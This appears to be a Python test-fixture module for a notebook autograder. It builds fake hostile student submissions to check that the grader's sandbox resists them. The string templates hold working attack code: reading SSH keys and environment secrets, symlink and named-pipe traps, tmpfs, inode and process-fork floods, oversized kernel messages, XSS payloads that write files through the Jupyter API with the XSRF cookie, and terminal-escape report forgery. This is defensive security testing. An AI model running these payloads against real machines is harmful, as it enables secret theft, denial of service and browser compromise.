"""Attacks on the instructor's machine, on classmates and on the pages a person opens.

:func:`host_cases_for` builds, for one assignment, a submission per attack with the score its
answers deserve (issues 23 and 41): reading the host, links and pipes in its own folders, the
memory and file limits, messages the grader cannot read, edited metadata, script in outputs and
written answers, the machine's ``/dev/shm`` inodes, leftovers too deep to remove, 700 busy
detached processes beside a slow honest student, message shapes that cost the grader memory,
report lines forged by an exception's name. ``tests/test_grading_host.py`` grades them all
beside honest students; ``benchmarks/grading_attacks.py`` one at a time.
"""

from __future__ import annotations

import shutil
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

from grading import judge, snippets
from grading.course import ROOT, _meta, is_test_cell
from grading.grader_attacks import GRADER_ATTACKS, grader_cases
from grading.synthetic import (Case, _answer_codes, _apply, _first_answer, _notebook,
                               assigned_names, load)

@dataclass
class Host:
    """What an instructor's machine holds beside the course, for the attacks of
    :func:`host_cases_for` (issue 23): a home folder with a private key, last year's checkout
    of the course (with its solutions), the collect inbox with a classmate's work, a tool on the
    PATH, and a secret in the grader's environment. The attacks are told these paths (an
    attacker who knows the layout is the strongest case); none may be read, run or changed."""

    root: Path
    key: Path             # ~/.ssh/id_rsa
    old_checkout: Path    # ~/courses/dtp-2025 (solutions/ inside)
    inbox: Path           # ~/inbox/<classmate>/<assignment>.ipynb
    tool: Path            # an executable the instructor runs
    token: str            # the value of $COURSE_FAKE_TOKEN in the grader's environment
    marker: str           # text in the key, the classmate's work and the tool

    @classmethod
    def make(cls, root: Path, assignment: str) -> "Host":
        import secrets

        marker = f"HOST-SECRET-{secrets.token_hex(8)}"
        root.mkdir(parents=True, exist_ok=True)
        key = root / ".ssh" / "id_rsa"
        key.parent.mkdir(mode=0o700)
        key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{marker}\n")
        key.chmod(0o600)
        old = root / "courses" / "dtp-2025"
        (old / "solutions" / assignment).mkdir(parents=True)
        shutil.copy(ROOT / "solutions" / assignment / f"{assignment}.ipynb",
                    old / "solutions" / assignment / f"{assignment}.ipynb")
        inbox = root / "inbox" / "classmate"
        inbox.mkdir(parents=True)
        (inbox / f"{assignment}.ipynb").write_text(f'{{"note": "{marker}"}}')
        tool = root / "bin" / "backup"
        tool.parent.mkdir()
        tool.write_text(f"#!/bin/sh\necho {marker}\n")
        tool.chmod(0o755)
        return cls(root, key, old, root / "inbox", tool, f"TOKEN-{secrets.token_hex(8)}",
                   marker)

    def state(self) -> dict[str, tuple[int, int, str]]:
        """(mode, size, sha256) of every entry under the fake home (unchanged = untouched)."""
        import hashlib

        out = {}
        for path in sorted(self.root.rglob("*")):
            st = path.lstat()
            digest = (hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file()
                      and not path.is_symlink() else "")
            out[str(path)] = (st.st_mode, st.st_size, digest)
        return out


_READS_HOST = textwrap.dedent('''
    def _syn_reads_host(paths, assignment):
        """Everything an instructor's machine offers: keys, the grader's environment, last
        year's solutions (run them), a classmate's work; print what is found."""
        import glob, json, os, subprocess
        found = {{"environ": dict(os.environ)}}
        try:
            found["init environ"] = open("/proc/1/environ").read()
        except OSError:
            pass
        for name, path in paths.items():
            try:
                found[name] = open(path).read()[:2000]
            except OSError as e:
                found[name] = f"unreadable: {{e}}"
        for path in glob.glob("/home/*/.ssh/*") + glob.glob("/root/.ssh/*"):
            try:
                found[path] = open(path).read()[:2000]
            except OSError:
                pass
        try:
            found["tool"] = subprocess.run([paths["tool"]], capture_output=True, text=True,
                                           timeout=5).stdout
        except Exception as e:
            found["tool"] = f"could not run: {{e}}"
        print(json.dumps(found, default=str)[:5000])
        sols = [p for top in ("/root", "/home", "/srv", "/opt", "/mnt", "/media", "/var")
                for p in glob.glob(top + "/**/solutions/" + assignment + "/*.ipynb",
                                   recursive=True)][:3]
        for sol in [paths["old solutions"], *sols]:
            try:
                nb = json.load(open(sol))
            except (OSError, ValueError):
                continue
            for cell in nb["cells"]:
                src = "".join(cell["source"])
                if cell["cell_type"] == "code" and "BEGIN SOLUTION" in src:
                    exec(src, globals())
    _syn_reads_host({paths!r}, {assignment!r})
''')
_LINKS_IN_ITS_FOLDER = textwrap.dedent('''
    def _syn_links_in_its_folder(paths, notebook):
        """What an unsandboxed grader would follow after the kernel ends: its autograded
        notebook replaced by a link to a classmate's results, links to the solution, the
        instructor's key and tool (to be chmod-ed and copied into feedback), a named pipe (a
        reader waits forever), a sparse 2 GiB file, and the hidden test's own source."""
        import os
        def place(name, make):
            try:
                if os.path.lexists(name):
                    os.unlink(name)
                make(name)
            except OSError:
                pass
        place(notebook, lambda n: os.symlink(paths["classmate results"], n))
        place("solution.ipynb", lambda n: os.symlink(paths["solution"], n))
        place("id_rsa", lambda n: os.symlink(paths["key"], n))
        place("backup", lambda n: os.symlink(paths["tool"], n))
        place("gradebook.db", lambda n: os.symlink(paths["gradebook"], n))
        place("pipe", os.mkfifo)
        place("sparse.bin", lambda n: open(n, "wb").truncate(2 * 2**30))
        place("hidden_test.py", lambda n: open(n, "w").write(str(globals().get("In", ""))[-4000:]))
    _syn_links_in_its_folder({paths!r}, {notebook!r})
''')
_SOCKET_FOLDER = textwrap.dedent('''
    def _syn_socket_folder(paths):
        """Its socket folder (named in the connection file) is the one folder of the host it can
        write: plant a link where an unsandboxed grader rewrote `hosts` at every restart, a
        named pipe and a big file there, then die (the grader restarts the kernel)."""
        import json, os, sys
        conn = sys.argv[sys.argv.index("-f") + 1] if "-f" in sys.argv else None
        try:
            folder = os.path.dirname(json.load(open(conn))["ip"])
        except Exception:
            folder = None
        if folder and not globals().get("_syn_died"):
            for name, make in (("hosts", lambda p: os.symlink(paths["gradebook"], p)),
                               ("pipe", os.mkfifo),
                               ("big.bin", lambda p: open(p, "wb").write(b"x" * 50_000_000))):
                try:
                    make(os.path.join(folder, name))
                except OSError:
                    pass
            globals()["_syn_died"] = True
            os._exit(1)
    _syn_socket_folder({paths!r})
''')
_TMP_FLOOD = textwrap.dedent('''
    # Fill the private /tmp (RAM) past the kernel's memory, in files below the file-size
    # limit: RLIMIT_AS does not count tmpfs, only a memory cgroup stops it ({gib} GiB).
    for _i in range({gib} * 8):
        with open(f"/tmp/flood{{_i}}.bin", "wb") as _f:
            for _ in range(128):
                _f.write(b"x" * 2**20)
''')
_BIG_FILE = textwrap.dedent('''
    # One file larger than the file-size limit.
    with open("big.bin", "wb") as _f:
        for _ in range(1024):
            _f.write(b"x" * 2**20)
''')
_HUGE_PRINTS = "for _ in range(3):\n    print('x' * 100_000_000)\n"
_DEEP_DISPLAY = textwrap.dedent('''
    # A display message nested 200,000 deep, sent past ipykernel's own serializer.
    import json as _json
    _k = get_ipython().kernel
    _n = 200_000
    _content = (b'{"data": {"text/plain": "x", "application/json": ' + b"[" * _n + b"]" * _n
                + b'}, "metadata": {}}')
    _parts = [_json.dumps(_k.session.msg_header("display_data"), default=str).encode(),
              _json.dumps(_k.get_parent().get("header", {}), default=str).encode(), b"{}",
              _content]
    _k.session.send_raw(_k.iopub_socket, _parts, ident=b"display_data")
    import time as _time
    _time.sleep(1)
''')
_DEEP_CODE = "x = a" + ".b" * 100_000 + "\n"

# Issue 41: what a submission does to the instructor's browser, to classmates and to the grader.
_COUNT = "window.top.__course_pwned = (window.top.__course_pwned || 0) + 1"
_SCRIPT_PUT = ("fetch('/api/contents/test-artifacts/pwned-{marker}.txt', {{method: 'PUT', "
               "headers: {{'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''"
               ", 'Content-Type': 'application/json'}}, body: JSON.stringify({{type: 'file', "
               "format: 'text', content: 'written by a student'}})}})")
SCRIPT_MARKER = "PWNED-by-a-submission"
# what each payload runs: count itself where the page can see it, and write a file into the
# instructor's repository through the Jupyter API (the session's own XSRF cookie)
SCRIPT_JS = f"{_COUNT}; " + _SCRIPT_PUT.format(marker=SCRIPT_MARKER)
_SCRIPT_OUTPUTS = textwrap.dedent('''
    # Outputs that would run as script wherever the notebook is rendered: the formgrader (in the
    # instructor's authenticated Jupyter origin) and the student's feedback page.
    from IPython.display import HTML, Javascript, Markdown, SVG, Latex, display
    _js = {js!r}
    display(HTML(f"<script>{{_js}}</script><img src=x onerror=\\"{{_js}}\\">"
                 f"<a href=\\"javascript:{{_js}}\\">{marker} link</a>"
                 f"<iframe srcdoc=\\"<script>{{_js}}</script>\\"></iframe>"))
    display(Javascript(_js))
    display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{{_js}}\\">"
                f"<script>{{_js}}</script></svg>"))
    display(Markdown(f"<img src=x onerror=\\"{{_js}}\\"> [{marker}](javascript:{{_js}})"))
    display(Latex(f"$\\\\href{{{{javascript:{{_js}}}}}}{{{{{marker}}}}}$"))
    display({{"image/png": f"AAAA\\"><script>{{_js}}</script>", "text/plain": "a picture"}},
            raw=True)
''')
_SCRIPT_ANSWER = ("My explanation. <script>{js}</script><img src=x onerror=\"{js}\"> "
                  "[see this](javascript:{js}) <a href=\"javascript:{js}\">{marker}</a> "
                  "[escaped](javascript\\:{link}) [entity](jav&#x61;script:{link}) "
                  "[html](data:text/html,{link}) [files](files/javascript:{link}) "
                  "[by reference][ref] "
                  "<iframe srcdoc=\"<script>{js}</script>\"></iframe> "
                  "<svg onload=\"{js}\"></svg> <form action=\"javascript:{js}\">"
                  "<button>{marker}</button></form>\n\n[ref]: javascript&#58;{link}\n")
LINK_JS = "window.top.__course_pwned=1"  # (a link's script: no space, quote or parenthesis)
_SHM_INODES = textwrap.dedent('''
    # Every inode of the folder the grader's sockets live in (the machine's /dev/shm on a grader
    # without its own tmpfs per kernel: 3 million inodes that every kernel's folder needs), then
    # {files:,} in the sandbox's own /tmp (a tmpfs of its own, its memory counted in the kernel's).
    import json, os, sys, time
    _conn = sys.argv[sys.argv.index("-f") + 1] if "-f" in sys.argv else None
    _folder = os.path.dirname(json.load(open(_conn))["ip"]) if _conn else "/tmp"
    _made, _end = {{}}, time.monotonic() + {seconds}
    for _where, _most in ((_folder, 4_000_000), ("/tmp", {files})):
        _made[_where] = 0
        try:
            while time.monotonic() < _end and _made[_where] < _most:
                open(os.path.join(_where, f"i{{_made[_where]}}"), "w").close()
                _made[_where] += 1
        except OSError:
            pass
    print(_made)
''')
_DEEP_LEFTOVERS = textwrap.dedent('''
    # What the grader must remove when the kernel ends: a 3,000-deep chain of folders, a
    # folder of mode 000, names that look like options, 64 MiB, and a link to the key.
    import json, os, sys
    _conn = sys.argv[sys.argv.index("-f") + 1] if "-f" in sys.argv else None
    _folder = os.path.dirname(json.load(open(_conn))["ip"]) if _conn else None
    for _base in [p for p in (_folder, "/tmp") if p]:
        try:
            _d = _base
            for _i in range(3000):
                _d = os.path.join(_d, "d")
                os.mkdir(_d)
        except OSError:
            pass
        for _name, _make in (("-rf", lambda p: open(p, "w").close()),
                             ("big.bin", lambda p: open(p, "wb").write(b"x" * 64 * 2**20)),
                             ("locked", lambda p: (os.mkdir(p), open(os.path.join(p, "f"), "w"),
                                                   os.chmod(p, 0)))):
            try:
                _make(os.path.join(_base, _name))
            except OSError:
                pass
        try:
            os.symlink({key!r}, os.path.join(_base, "key-link"))
        except OSError:
            pass
''')
_CPU_HOG = textwrap.dedent('''
    # 700 busy processes, each detached (new session, double fork), spinning for up to
    # {seconds} s once all are started; this cell then waits while they run: a classmate's
    # kernel must keep its CPU.
    import os, time
    for _ in range(700):
        try:
            _pid = os.fork()
        except OSError:
            break
        if _pid == 0:
            os.setsid()
            if os.fork() == 0:
                while not os.path.exists("/tmp/go"):
                    time.sleep(0.05)
                _stop = float(open("/tmp/go").read() or 0)
                while time.time() < _stop:
                    pass
            os._exit(0)
        os.waitpid(_pid, 0)
    open("/tmp/go.tmp", "w").write(str(time.time() + {seconds}))
    os.rename("/tmp/go.tmp", "/tmp/go")
    time.sleep({wait})
''')
_SLOW_HONEST = textwrap.dedent('''
    # This student's own slow way of working: {cpu} s of computing before the answer.
    import time as _time
    _t0 = _time.process_time()
    while _time.process_time() - _t0 < {cpu}:
        pass
''')
_HUGE_SHAPES = textwrap.dedent('''
    # One display message of 15 million zeros (28.6 MiB, under the 32 MiB message limit), sent
    # past ipykernel's serializer: parsed and walked naively it takes the grader 1.3 GiB.
    import json as _json, time as _time
    _k = get_ipython().kernel
    _content = b'{"data": {"application/json": [' + b"0," * 15_000_000 + b'0]}, "metadata": {}}'
    _parts = [_json.dumps(_k.session.msg_header("display_data"), default=str).encode(),
              _json.dumps(_k.get_parent().get("header", {}), default=str).encode(), b"{}",
              _content]
    _k.session.send_raw(_k.iopub_socket, _parts, ident=b"display_data")
    _time.sleep(1)
''')
_TYPE_NAMES = ("{name} = [type(f'T{{i}}', (), {{}})() for i in range(80_000)]  "
               "# 80,000 distinct type names, one message")
_FORGED_REPORT = textwrap.dedent('''
    # The test cell of {name} raises an exception whose name and message would write lines of
    # their own into a report printed in a terminal (and hide the real one).
    import builtins as _b
    class _Forged(Exception):
        pass
    _Forged.__name__ = _Forged.__qualname__ = "Error\\nr3_ghost: 10 / 10\\x1b[2K\\r"
    _b._syn_forged = _Forged
    def _syn_forge(lines):  # (stateless: ipykernel transforms each cell twice)
        text = "".join(lines)
        if "submit(" in text and {name!r} in text:
            return ["raise _syn_forged('\\\\r\\\\x1b[1A\\\\x1b[2Kq1 passed\\\\nr4_ghost: 10 / 10')\\n"]
        return lines
    get_ipython().input_transformers_post.append(_syn_forge)
''')


def _added_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """``nb`` with one more code cell at the end, as a student adds one."""
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def _edit_metadata(nb: nbformat.NotebookNode, *, points: float | None = None,
                   ungrade: bool = True) -> nbformat.NotebookNode:
    """Edit the nbgrader metadata of the test cells as a student can in any editor."""
    tests = [c for c in nb.cells if is_test_cell(c)]
    if ungrade and tests:
        tests[0].metadata["nbgrader"]["grade"] = False      # "not a test any more"
    if ungrade and len(tests) > 1:
        tests[1].metadata["nbgrader"]["solution"] = True    # "an answer of mine"
    if ungrade and len(tests) > 2:
        tests[2].metadata["nbgrader"]["grade_id"] = "mine"  # a new name
    for cell in tests[3:] if ungrade else tests:
        if points is not None:
            cell.metadata["nbgrader"]["points"] = points
    return nb


HOST_ATTACKS = ["cpu_hog", "slow_honest", "reads_host", "links_in_its_folder", "socket_folder",
                "tmp_flood", "big_file", "huge_prints", "deep_display", "deep_code",
                "edits_metadata", "inflates_points", "uses_helper_computed", "script_outputs",
                "shm_inodes", "deep_leftovers", "huge_shapes", "type_names", "forged_report",
                *GRADER_ATTACKS]
# (cpu_hog and slow_honest first: graded at the same time, one in each of two workers)


def host_cases_for(assignment: str, host: Host, data: Path, memory_gb: float = 6.0,
                   flood_s: float = 12.0) -> list[tuple[Case, dict]]:
    """The attacks on the instructor's machine and on the grader around the judge (issue 23),
    each with the score it deserves: the answers it comes with (wrong ones, or right ones with
    the attack in a cell of its own), nothing more. ``data``: the course data folder graded;
    ``memory_gb``: the kernels' memory limit (the /tmp flood writes 1 GiB more); ``flood_s``:
    how long ``message_flood`` sends (``grading.grader_attacks``)."""
    from grading import sandbox

    [model] = load(assignment)
    full, name = model.auto_max, model.name
    correct = {**_answer_codes(model, lambda g, c: c), **model.manual}
    wrong = _answer_codes(model, lambda g, c: f"{c}\n{snippets.WRONG}\n{_apply(assigned_names(c), '_syn_wrong')}")
    paths = {"key": str(host.key), "tool": str(host.tool),
             "old solutions": str(host.old_checkout / "solutions" / assignment / name),
             "classmate": str(host.inbox / "classmate" / name),
             "classmate results": str(data / "autograded" / "correct" / assignment / name),
             "solution": str(ROOT / "solutions" / assignment / name),
             "gradebook": str(data / "gradebook.db")}
    out: list[tuple[Case, dict]] = []

    def add(kind, deserved, nb, **kw):
        out.append((Case(kind, kind, deserved, side_effects=True, **kw), {name: nb, "_files": {}}))

    first = _first_answer(model)
    hog_s = 25  # (the cell's own wait is under the suite's 10 s cell timeout: interrupted or not)
    add("cpu_hog", full, _added_cell(_notebook(model, correct),
                                     _CPU_HOG.format(seconds=hog_s, wait=8)),
        limits=["left running"])
    add("slow_honest", full, _notebook(model, {**correct, first: _SLOW_HONEST.format(cpu=2.0)
                                               + correct[first]}))
    reads = _READS_HOST.format(paths=paths, assignment=assignment)
    add("reads_host", 0.0, _notebook(model, {g: f"{reads}\n{c}" for g, c in wrong.items()}))
    add("links_in_its_folder", full, _added_cell(_notebook(model, correct), _LINKS_IN_ITS_FOLDER
                                                 .format(paths=paths, notebook=name)))
    add("socket_folder", full, _added_cell(_notebook(model, correct),
                                           _SOCKET_FOLDER.format(paths=paths)))
    add("tmp_flood", full, _added_cell(_notebook(model, correct),
                                       _TMP_FLOOD.format(gib=int(memory_gb) + 1)),
        limits=["memory limit"] if sandbox.has_memory_cgroup() else [])
    add("big_file", full, _added_cell(_notebook(model, correct), _BIG_FILE),
        limits=["file-size limit"])
    add("huge_prints", full, _added_cell(_notebook(model, correct), _HUGE_PRINTS),
        limits=["over 32 MiB"])
    add("deep_display", full, _added_cell(_notebook(model, correct), _DEEP_DISPLAY),
        limits=["could not read"])
    add("deep_code", full, _added_cell(_notebook(model, correct), _DEEP_CODE),
        flags=["could not be scanned"])
    add("edits_metadata", 0.0, _edit_metadata(_notebook(model, wrong)),
        flags=["nbgrader metadata edited"])
    add("inflates_points", full, _edit_metadata(_notebook(model, correct), points=100,
                                                ungrade=False),
        flags=["nbgrader metadata edited (points)"])
    scripted = _added_cell(_notebook(model, correct), _SCRIPT_OUTPUTS.format(
        js=SCRIPT_JS, marker=SCRIPT_MARKER))
    for cell in scripted.cells:  # every written answer is a page of script too
        if cell.cell_type == "markdown" and _meta(cell).get("solution"):
            cell.source = _SCRIPT_ANSWER.format(js=SCRIPT_JS, marker=SCRIPT_MARKER,
                                                link=LINK_JS)
    add("script_outputs", full, scripted)
    add("shm_inodes", full, _added_cell(_notebook(model, correct),
                                        _SHM_INODES.format(seconds=20, files=20_000)))
    add("deep_leftovers", full, _added_cell(_notebook(model, correct),
                                            _DEEP_LEFTOVERS.format(key=str(host.key))))
    add("huge_shapes", full, _added_cell(_notebook(model, correct), _HUGE_SHAPES),
        limits=["could not read"])
    [typed_name] = [n for n in assigned_names(correct[first]) if not n.startswith("_")][:1]
    add("type_names", full - model.points_of(first), _notebook(model, {
        **correct, first: f"{correct[first]}\n" + _TYPE_NAMES.format(name=typed_name)}))
    forged = _notebook(model, {**correct, first: f"{correct[first]}\n"
                                                 + _FORGED_REPORT.format(name=typed_name)})
    test = next(c for c in forged.cells if is_test_cell(c))
    test.metadata["nbgrader"]["x\nr5_ghost: 10 / 10\x1b[2K"] = True  # a key that is a line
    add("forged_report", full - model.points[_meta(test)["grade_id"]], forged,
        flags=["nbgrader metadata edited"])
    grader_cases(lambda answers: _notebook(model, answers), full, correct, wrong, add,
                 SCRIPT_JS, flood_s=flood_s)
    not_allowed = getattr(judge.load(assignment), "HELPERS_NOT_ALLOWED", {})
    if not_allowed:
        gid = next(g for g in correct if g in not_allowed)
        module, _, fn = not_allowed[gid][0].partition(".")
        half = len(fn) // 2
        add("uses_helper_computed", full, _notebook(model, {**correct, gid: (
            f"{correct[gid]}\nfrom course_utils import {module} as _syn_mod\n"
            f"_syn_helper = getattr(_syn_mod, {fn[:half]!r} + {fn[half:]!r})")}),
            flags=[f"uses course_utils.{module}.{fn}"])
    return out


__all__ = ["HOST_ATTACKS", "Host", "SCRIPT_JS", "SCRIPT_MARKER", "host_cases_for"]
